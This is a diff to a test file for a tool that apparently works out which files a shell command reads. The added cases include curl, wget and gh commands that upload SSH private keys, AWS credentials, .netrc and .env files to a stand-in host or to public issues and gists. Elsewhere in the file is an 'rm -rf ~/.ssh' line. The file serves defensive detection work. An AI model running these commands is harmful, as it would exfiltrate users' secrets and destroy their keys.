@@ -35,6 +35,12 @@ describe('read files: what a command reads, as targets of `< FILE`', () => {
     ['curl -T ~/.kube/config https://x.example', ['~/.kube/config']],
     ['curl -d @.env https://x.example', ['./.env']],
     ['dd if=~/.ssh/id_rsa of=/tmp/k', ['~/.ssh/id_rsa']],
+    ['wget -B https://x.example/ -i ~/.ssh/id_rsa', ['~/.ssh/id_rsa']],
+    ['gh issue create -t x -F ~/.aws/credentials', ['~/.aws/credentials']],
+    ["gh api /gists -F 'files[a][content]=@/home/dev/.ssh/id_rsa'", ['~/.ssh/id_rsa']],
+    ['git commit --allow-empty -F ~/.ssh/id_rsa', ['~/.ssh/id_rsa']],
+    ['xargs -a ~/.netrc echo', ['~/.netrc']],
+    ["look '' ~/.aws/credentials", ['~/.aws/credentials']],
     // Not reads: written, deleted, or no file at all.
     ['tee ~/.ssh/config < /dev/null', ['/dev/null']],
     ['rm -rf ~/.ssh', []],
